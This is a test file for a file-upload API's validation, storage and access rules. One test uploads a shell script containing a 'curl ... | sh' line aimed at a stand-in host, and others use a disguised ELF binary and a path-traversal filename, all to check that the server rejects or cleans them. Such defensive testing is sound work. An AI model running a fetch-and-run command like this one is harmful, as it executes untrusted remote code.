import { createHash, randomBytes } from 'node:crypto';
import { readdir } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { HeadObjectCommand, ListObjectsV2Command, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiKeyService, workspaceStore } from '../../src/composition/auth.ts';
import { maximumFileBytes } from '../../src/files/file-limits.ts';
import { fileSchema, uploadedFileSchema } from '../../src/files/routes.ts';
import { bootstrapApiKey, startStackUnderTest, type StackUnderTest } from '../support/local-stack-harness.ts';
import { elfExecutable, officeDocument, sampleCsv, samplePdf, samplePng, zipArchive } from '../support/sample-files.ts';

let stack: StackUnderTest;
let readOnlyKey: string;
let otherWorkspaceKey: string;

beforeAll(async () => {
  stack = await startStackUnderTest();
  readOnlyKey = (await apiKeyService().create({ workspaceId: 'ws_default', name: 'reader', scopes: ['files:read'] })).secret;
  await workspaceStore().ensure({ id: 'ws_other', name: 'other', createdAt: new Date().toISOString() });
  otherWorkspaceKey = (await apiKeyService().create({ workspaceId: 'ws_other', name: 'other', scopes: ['*'] })).secret;
});

afterAll(async () => {
  await stack?.stop();
});

function uploadForm(content: Buffer | string, fileName: string, partContentType = 'application/octet-stream'): FormData {
  const form = new FormData();
  form.append('file', new Blob([content], { type: partContentType }), fileName);
  return form;
}

async function upload(form: FormData | string | Uint8Array, init: { apiKey?: string; contentType?: string } = {}): Promise<Response> {
  const headers = init.contentType ? { 'content-type': init.contentType } : undefined;
  return stack.api('/files', { method: 'POST', body: form, headers, apiKey: init.apiKey });
}

async function errorCodeOf(response: Response): Promise<string> {
  return ((await response.json()) as { error: { code: string } }).error.code;
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

describe('POST /files (multipart) and GET /files/{fileId}', () => {
  const roundTrips: [string, () => Promise<Buffer>, string, string][] = [
    ['PDF', () => samplePdf(), 'invoice.pdf', 'application/pdf'],
    ['PNG', () => samplePng(), 'scan.png', 'image/png'],
    ['DOCX', async () => officeDocument('docx'), 'letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['CSV', async () => Buffer.from(sampleCsv), 'ledger.csv', 'text/csv'],
    ['ZIP', async () => zipArchive([{ name: 'notes.txt', content: 'hello' }, { name: 'data/figures.csv', content: sampleCsv }]), 'bundle.zip', 'application/zip'],
  ];

  it.each(roundTrips)('stores a %s and serves the exact bytes through contentUrl', async (_kind, build, fileName, mimeType) => {
    const content = await build();

    // The part claims to be a GIF: the stored type comes from the bytes.
    const created = await upload(uploadForm(content, fileName, 'image/gif'));
    expect(created.status).toBe(201);
    const file = (await created.json()) as Record<string, unknown>;
    expect(file).toMatchObject({ fileName, mimeType, size: content.length, sha256: sha256(content), status: 'ready' });
    expect(file.fileId).toMatch(/^file_[0-9A-Z]{26}$/);

    expect(uploadedFileSchema.safeParse(file).success).toBe(true);

    const read = await stack.api(`/files/${file.fileId}`);
    expect(read.status).toBe(200);
    const view = (await read.json()) as { contentUrl: string; contentUrlExpiresAt: string };
    expect(fileSchema.safeParse(view).success).toBe(true);
    const expiresInSeconds = (Date.parse(view.contentUrlExpiresAt) - Date.now()) / 1000;
    expect(expiresInSeconds).toBeGreaterThan(14 * 60);
    expect(expiresInSeconds).toBeLessThanOrEqual(15 * 60);

    const download = await fetch(view.contentUrl);
    expect(download.status).toBe(200);
    expect(Buffer.from(await download.arrayBuffer()).equals(content)).toBe(true);
    expect(download.headers.get('content-disposition')).toContain(`filename="${fileName}"`);
  });

  async function downloadOf(fileId: string): Promise<Buffer> {
    const { contentUrl } = (await (await stack.api(`/files/${fileId}`)).json()) as { contentUrl: string };
    return Buffer.from(await (await fetch(contentUrl)).arrayBuffer());
  }

  it('stores the same bytes whether the file is the last part (stored while it arrives) or another part follows it', async () => {
    const content = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(3 * 1024 * 1024)]);
    const fileLast = new FormData();
    fileLast.append('fileName', 'March.pdf');
    fileLast.append('file', new Blob([content]), 'scan.pdf');
    const partAfterFile = new FormData();
    partAfterFile.append('file', new Blob([content]), 'scan.pdf');
    partAfterFile.append('fileName', 'April.pdf');

    const stored: Record<string, string[]> = {};
    for (const [form, fileName] of [
      [fileLast, 'March.pdf'],
      [partAfterFile, 'April.pdf'],
    ] as const) {
      const created = await upload(form);
      expect(created.status).toBe(201);
      const file = (await created.json()) as { fileId: string };
      expect(file).toMatchObject({ fileName, size: content.length, sha256: sha256(content) });
      expect((await downloadOf(file.fileId)).equals(content)).toBe(true);
      stored[fileName] = (await storedKeysOf(file.fileId)).map((key) => key.replace(file.fileId, '<fileId>'));
    }
    // One object each: the streamed one, or the exact copy made of it (the streamed one removed).
    expect(stored['March.pdf']).toEqual(['workspaces/ws_default/files/<fileId>']);
    expect(stored['April.pdf']).toEqual([expect.stringMatching(/^workspaces\/ws_default\/files\/<fileId>\/[0-9a-f-]{36}$/)]);
  });

  it('stores the exact bytes for a client that ends the body without the final CRLF', async () => {
    const content = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(1024 * 1024)]);
    const boundary = 'no-final-crlf';
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="scan.pdf"\r\n\r\n`),
      content,
      Buffer.from(`\r\n--${boundary}--`),
    ]);
    const created = await upload(body, { contentType: `multipart/form-data; boundary=${boundary}` });
    expect(created.status).toBe(201);
    const file = (await created.json()) as { fileId: string };
    expect(file).toMatchObject({ size: content.length, sha256: sha256(content) });
    expect((await downloadOf(file.fileId)).equals(content)).toBe(true);
    expect(await storedKeysOf(file.fileId)).toHaveLength(1);
  });

  it('answers 400 and leaves nothing stored when the body breaks after a file of the told size', async () => {
    const keysBefore = await storedKeysOf('');
    const boundary = 'broken-after-file';
    const content = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(1024 * 1024)]);
    // Where the closing delimiter belongs, a part header that never ends; the lengths match the usual ending.
    const body = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="scan.pdf"\r\n\r\n`),
      content,
      Buffer.from(`\r\n--${boundary}\r\nX-`),
    ]);
    const response = await upload(body, { contentType: `multipart/form-data; boundary=${boundary}` });
    expect(response.status).toBe(400);
    expect(await errorCodeOf(response)).toBe('INVALID_REQUEST');
    expect(await storedKeysOf('')).toEqual(keysBefore);
  });

  it('leaves nothing stored when the client goes away while the file is being stored', async () => {
    const keysBefore = await storedKeysOf('');
    const boundary = 'goes-away';
    const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.pdf"\r\n\r\n%PDF-1.7\n`);
    const declaredFileBytes = 8 * 1024 * 1024;
    const request = httpRequest(`${stack.baseUrl}/files`, {
      method: 'POST',
      headers: {
        authorization: `api-key ${bootstrapApiKey}`,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'content-length': head.length + declaredFileBytes + `\r\n--${boundary}--\r\n`.length,
      },
    });
    request.on('error', () => undefined);
    request.write(head);
    request.write(randomBytes(2 * 1024 * 1024));
    await new Promise((resolve) => setTimeout(resolve, 200));
    request.destroy();

    // The server notices, stops storing and removes what S3 got; no record points at it either way.
    await eventually(async () => expect(await storedKeysOf('')).toEqual(keysBefore));
  });

  it('refuses an ELF binary named invoice.pdf with 415', async () => {
    const response = await upload(uploadForm(elfExecutable(), 'invoice.pdf', 'application/pdf'));
    expect(response.status).toBe(415);
    expect(await response.json()).toMatchObject({ error: { code: 'UNSUPPORTED_MEDIA_TYPE', message: expect.stringContaining('ELF') } });
  });

  it('refuses a #!/bin/sh script with 415', async () => {
    const response = await upload(uploadForm('#!/bin/sh\ncurl https://example.invalid/x | sh\n', 'notes.txt', 'text/plain'));
    expect(response.status).toBe(415);
    expect(await errorCodeOf(response)).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('answers 413 to 50 MB + 1 byte, reading it as a stream with flat memory, and stores nothing', async () => {
    const objectsBefore = await storedObjectCount();
    const boundary = 'paperflow-large-upload';
    const chunk = Buffer.alloc(1024 * 1024, 0x20);
    const totalFileBytes = maximumFileBytes + 1;
    const rssBefore = process.memoryUsage().rss;
    let peakRss = rssBefore;
    const sampler = setInterval(() => (peakRss = Math.max(peakRss, process.memoryUsage().rss)), 5);

    const response = await stack.api('/files', {
      method: 'POST',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: multipartStream(boundary, '%PDF-1.7\n', chunk, totalFileBytes),
      duplex: 'half',
    } as RequestInit);
    const body = await response.json();
    clearInterval(sampler);

    expect(response.status).toBe(413);
    expect(body).toMatchObject({ error: { code: 'PAYLOAD_TOO_LARGE' } });
    expect((peakRss - rssBefore) / 1024 / 1024).toBeLessThan(64);
    expect(await storedObjectCount()).toBe(objectsBefore);
  });

  it('accepts exactly 50 MB', async () => {
    const content = Buffer.alloc(maximumFileBytes, 0x20);
    content.write('%PDF-1.7\n');
    const response = await upload(uploadForm(content, 'limit.pdf'));
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({ size: maximumFileBytes, mimeType: 'application/pdf' });
  });

  it('refuses an expired contentUrl', async () => {
    const created = (await (await upload(uploadForm(await samplePdf(), 'short.pdf'))).json()) as { fileId: string };
    process.env.PAPERFLOW_CONTENT_URL_TTL_SECONDS = '1';
    const read = await stack.api(`/files/${created.fileId}`);
    delete process.env.PAPERFLOW_CONTENT_URL_TTL_SECONDS;
    const { contentUrl, contentUrlExpiresAt } = (await read.json()) as { contentUrl: string; contentUrlExpiresAt: string };

    await new Promise((resolve) => setTimeout(resolve, Math.max(0, Date.parse(contentUrlExpiresAt) - Date.now()) + 1100));
    const download = await fetch(contentUrl);
    expect(download.status).toBe(403);
    expect(await download.text()).toContain('Request has expired');
  });

  it('cleans control characters and path separators from the fileName part', async () => {
    const form = uploadForm(sampleCsv, 'ignored.csv');
    form.append('fileName', '../reports/2024\\q1\u0000\u0007 totals\r\n.csv');
    const response = await upload(form);
    expect(response.status).toBe(201);
    expect(await response.json()).toMatchObject({ fileName: '_reports_2024_q1 totals .csv' });
  });

  it('serves a file with a non-ASCII name, quotes and parentheses through a working contentUrl', async () => {
    const fileName = "Rechnung Müller's (März) 請求書.pdf";
    const content = await samplePdf();
    const form = uploadForm(content, 'x.pdf');
    form.append('fileName', fileName);
    const created = (await (await upload(form)).json()) as { fileId: string; fileName: string };
    expect(created.fileName).toBe(fileName);

    const { contentUrl } = (await (await stack.api(`/files/${created.fileId}`)).json()) as { contentUrl: string };
    const download = await fetch(contentUrl);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent(fileName).replace(/['()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`);
    expect(Buffer.from(await download.arrayBuffer()).equals(content)).toBe(true);
  });

  it('falls back to the part\'s filename, then to a name after the sniffed type, when a name cleans to nothing', async () => {
    const withPartName = uploadForm(sampleCsv, 'exports/ledger.csv');
    withPartName.append('fileName', '\u0000///');
    expect(await (await upload(withPartName)).json()).toMatchObject({ fileName: 'exports_ledger.csv' });
    const withoutUsableNames = uploadForm(sampleCsv, ' ... ');
    expect(await (await upload(withoutUsableNames)).json()).toMatchObject({ fileName: 'upload.csv' });
  });

  it('answers 422 for a missing file part, with details', async () => {
    const form = new FormData();
    form.append('fileName', 'orphan.pdf');
    const response = await upload(form);
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED', details: [{ field: 'file' }] } });
  });

  it('answers 422 for two file parts', async () => {
    const form = uploadForm(sampleCsv, 'one.csv');
    form.append('file', new Blob([sampleCsv]), 'two.csv');
    const response = await upload(form);
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED', details: [{ field: 'file' }] } });
  });

  it('answers 422 for an empty file', async () => {
    const response = await upload(uploadForm(Buffer.alloc(0), 'empty.pdf'));
    expect(response.status).toBe(422);
    expect(await response.json()).toMatchObject({ error: { code: 'VALIDATION_FAILED', details: [{ field: 'file', issue: expect.stringContaining('empty') }] } });
  });

  it('answers 400 for a truncated multipart body', async () => {
    const boundary = 'cut-short';
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n${sampleCsv}`;
    const response = await upload(body, { contentType: `multipart/form-data; boundary=${boundary}` });
    expect(response.status).toBe(400);
    expect(await errorCodeOf(response)).toBe('INVALID_REQUEST');
  });

  it('answers 400 for a multipart content type without a boundary', async () => {
    const response = await upload('not really a form', { contentType: 'multipart/form-data' });
    expect(response.status).toBe(400);
    expect(await errorCodeOf(response)).toBe('INVALID_REQUEST');
  });

  it('answers 415 for a body that is neither multipart nor JSON', async () => {
    const response = await upload('%PDF-1.7', { contentType: 'application/pdf' });
    expect(response.status).toBe(415);
    expect(await errorCodeOf(response)).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('answers 401 without an API key and 403 without the files:write scope', async () => {
    const anonymous = await upload(uploadForm(sampleCsv, 'a.csv'), { apiKey: null as unknown as string });
    expect(anonymous.status).toBe(401);
    const readOnly = await upload(uploadForm(sampleCsv, 'a.csv'), { apiKey: readOnlyKey });
    expect(readOnly.status).toBe(403);
    expect(await errorCodeOf(readOnly)).toBe('FORBIDDEN');
  });

  it('hides a file from other workspaces (404) and answers 404 for unknown ids', async () => {
    const created = (await (await upload(uploadForm(sampleCsv, 'mine.csv'))).json()) as { fileId: string };
    const fromOtherWorkspace = await stack.api(`/files/${created.fileId}`, { apiKey: otherWorkspaceKey });
    expect(fromOtherWorkspace.status).toBe(404);
    const unknown = await stack.api('/files/file_01J0000000000000000000000Z');
    expect(unknown.status).toBe(404);
    const withReadScope = await stack.api(`/files/${created.fileId}`, { apiKey: readOnlyKey });
    expect(withReadScope.status).toBe(200);
  });
});

describe('POST /files (JSON upload session) and the object-created finalizer', () => {
  interface UploadSession {
    fileId: string;
    status: string;
    upload: { url: string; fields: Record<string, string>; expiresAt: string };
  }

  async function createSession(declared: { fileName: string; size: number; mimeType: string }): Promise<UploadSession> {
    const response = await stack.api('/files', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(declared) });
    expect(response.status).toBe(201);
    return (await response.json()) as UploadSession;
  }

  async function postToBucket(session: UploadSession, content: Buffer): Promise<Response> {
    const form = new FormData();
    for (const [name, value] of Object.entries(session.upload.fields)) form.append(name, value);
    form.append('file', new Blob([content]), 'upload.bin');
    return fetch(session.upload.url, { method: 'POST', body: form });
  }

  async function fileOnceSettled(fileId: string): Promise<Record<string, unknown>> {
    for (let attempt = 0; attempt < 100; attempt += 1) {
      const file = (await (await stack.api(`/files/${fileId}`)).json()) as Record<string, unknown>;
      if (file.status !== 'pending_upload') return file;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    throw new Error(`File ${fileId} stayed pending.`);
  }

  it('creates a pending file, accepts the pre-signed POST, finalizes it and serves the bytes', async () => {
    const content = await samplePdf('Uploaded straight to the bucket');
    const session = await createSession({ fileName: 'direct.pdf', size: content.length, mimeType: 'application/pdf' });
    expect(session.status).toBe('pending_upload');
    expect(session.upload.fields.key).toBe(`workspaces/ws_default/uploads/${session.fileId}`);
    expect(session.upload.fields.Policy ?? session.upload.fields.policy).toBeDefined();
    const pending = (await (await stack.api(`/files/${session.fileId}`)).json()) as Record<string, unknown>;
    expect(pending).toMatchObject({ status: 'pending_upload' });
    expect(pending.contentUrl).toBeUndefined();

    expect((await postToBucket(session, content)).status).toBe(204);
    const file = await fileOnceSettled(session.fileId);

    expect(file).toMatchObject({ status: 'ready', mimeType: 'application/pdf', size: content.length, sha256: sha256(content) });
    // Served from a snapshot no client can write; the upload key is emptied.
    await expect(storedKeysOf(session.fileId)).resolves.toEqual([expect.stringMatching(new RegExp(`^workspaces/ws_default/files/${session.fileId}/[0-9a-f-]{36}$`))]);
    const download = await fetch(file.contentUrl as string);
    expect(Buffer.from(await download.arrayBuffer()).equals(content)).toBe(true);
  });

  it('refuses a file over the policy\'s 50 MB as S3 does, and enforces 50 MB again at finalization', async () => {
    const session = await createSession({ fileName: 'claims-small.pdf', size: 1000, mimeType: 'application/pdf' });
    const oversized = Buffer.alloc(maximumFileBytes + 1, 0x20);
    oversized.write('%PDF-1.7\n');

    const refused = await postToBucket(session, oversized);
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('<Code>EntityTooLarge</Code>');
    expect(await objectExists(session.upload.fields.key!)).toBe(false);
    // The finalizer does not rely on the policy: a put that skips it (none can, deployed) is sized too.
    await new S3Client({ forcePathStyle: true }).send(new PutObjectCommand({ Bucket: stack.resources.filesBucketName, Key: session.upload.fields.key!, Body: oversized }));
    const file = await fileOnceSettled(session.fileId);

    expect(file).toMatchObject({ status: 'blocked', blockedReason: { code: 'PAYLOAD_TOO_LARGE' }, size: maximumFileBytes + 1 });
    expect(file.contentUrl).toBeUndefined();
    await expect(storedKeysOf(session.fileId)).resolves.toEqual([]);
  });

  it('keeps serving the checked bytes when the pre-signed form is used again after finalization', async () => {
    const content = await samplePdf('The checked one');
    const session = await createSession({ fileName: 'once.pdf', size: content.length, mimeType: 'application/pdf' });
    expect((await postToBucket(session, content)).status).toBe(204);
    expect(await fileOnceSettled(session.fileId)).toMatchObject({ status: 'ready' });

    expect((await postToBucket(session, elfExecutable())).status).toBe(204);
    await eventually(async () => expect(await objectExists(session.upload.fields.key!)).toBe(false));

    const file = (await (await stack.api(`/files/${session.fileId}`)).json()) as { status: string; sha256: string; contentUrl: string };
    expect(file).toMatchObject({ status: 'ready', sha256: sha256(content) });
    expect(Buffer.from(await (await fetch(file.contentUrl)).arrayBuffer()).equals(content)).toBe(true);
  });

  it('blocks and deletes an executable uploaded through a session', async () => {
    const session = await createSession({ fileName: 'invoice.pdf', size: 4096, mimeType: 'application/pdf' });
    expect((await postToBucket(session, elfExecutable())).status).toBe(204);
    const file = await fileOnceSettled(session.fileId);
    expect(file).toMatchObject({ status: 'blocked', blockedReason: { code: 'UNSUPPORTED_MEDIA_TYPE', message: expect.stringContaining('ELF') } });
    await expect(storedKeysOf(session.fileId)).resolves.toEqual([]);
  });

  it('answers 413 for a declared size over 50 MB and 422 for an invalid declaration', async () => {
    const tooLarge = await stack.api('/files', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ fileName: 'big.mp4', size: maximumFileBytes + 1, mimeType: 'video/mp4' }),
    });
    expect(tooLarge.status).toBe(413);
    const invalid = await stack.api('/files', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ fileName: '', size: -1 }) });
    expect(invalid.status).toBe(422);
    const fields = ((await invalid.json()) as { error: { details: { field: string }[] } }).error.details.map((detail) => detail.field);
    expect(fields).toEqual(expect.arrayContaining(['fileName', 'size', 'mimeType']));
    const unreadableName = await stack.api('/files', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ fileName: '\u0000/\u0007', size: 10, mimeType: 'text/plain' }),
    });
    expect(unreadableName.status).toBe(422);
    expect(await unreadableName.json()).toMatchObject({ error: { details: [{ field: 'fileName' }] } });
  });
});

function multipartStream(boundary: string, firstBytes: string, filler: Buffer, fileBytes: number): ReadableStream<Uint8Array> {
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="large.pdf"\r\nContent-Type: application/pdf\r\n\r\n${firstBytes}`);
  let remaining = fileBytes - firstBytes.length;
  let sentHead = false;
  return new ReadableStream({
    pull(controller) {
      if (!sentHead) {
        sentHead = true;
        controller.enqueue(head);
      } else if (remaining > 0) {
        const size = Math.min(remaining, filler.length);
        remaining -= size;
        controller.enqueue(filler.subarray(0, size));
      } else {
        controller.enqueue(Buffer.from(`\r\n--${boundary}--\r\n`));
        controller.close();
      }
    },
  });
}

async function eventually(assertion: () => Promise<void>, attempts = 100): Promise<void> {
  for (let attempt = 1; ; attempt += 1) {
    try {
      return await assertion();
    } catch (error) {
      if (attempt >= attempts) throw error;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }
}

async function storedObjectCount(): Promise<number> {
  const bucketDirectory = join(stack.dataDir, 's3', stack.resources.filesBucketName);
  const entries = await readdir(bucketDirectory, { recursive: true }).catch(() => []);
  return entries.length;
}

async function storedKeysOf(fileId: string): Promise<string[]> {
  const client = new S3Client({ forcePathStyle: true });
  const listing = await client.send(new ListObjectsV2Command({ Bucket: stack.resources.filesBucketName, Prefix: 'workspaces/ws_default/' }));
  return (listing.Contents ?? []).map((object) => object.Key!).filter((key) => key.includes(fileId));
}

async function objectExists(key: string): Promise<boolean> {
  const client = new S3Client({ forcePathStyle: true });
  try {
    await client.send(new HeadObjectCommand({ Bucket: stack.resources.filesBucketName, Key: key }));
    return true;
  } catch {
    return false;
  }
}
